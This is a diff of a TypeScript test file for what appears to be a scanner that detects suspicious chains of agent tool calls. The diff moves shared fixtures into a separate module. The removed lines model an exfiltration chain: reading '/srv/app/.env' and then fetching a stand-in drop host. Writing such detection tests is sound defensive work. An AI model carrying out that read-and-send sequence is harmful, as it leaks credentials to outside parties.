@@ -7,6 +7,7 @@ import { describe, expect, test } from "bun:test";
 import type { StateValue, Versioned } from "../../src/engine/state/index.ts";
 import { checkToolCallChain, MemoryStateStore } from "../../src/state/index.ts";
 import { chains, defaultChains } from "../engine/scanners/chains/fixture.ts";
+import { ids, secretRead, send } from "./chain-calls.ts";
 
 class CountingStore extends MemoryStateStore {
   reads = 0;
@@ -16,10 +17,7 @@ class CountingStore extends MemoryStateStore {
   }
 }
 
-const secretRead = { toolName: "read_file", arguments: { path: "/srv/app/.env" } };
 const ordinary = { toolName: "bash", arguments: { command: "npm test" } };
-const send = { toolName: "fetch", arguments: { url: "https://drop.example.net/" } };
-const ids = (c: { findings: readonly { rule_id: string }[] }) => c.findings.map((f) => f.rule_id);
 
 describe("what a check reads", () => {
   test("an ordinary call reads no window, and its commit still appends it", async () => {
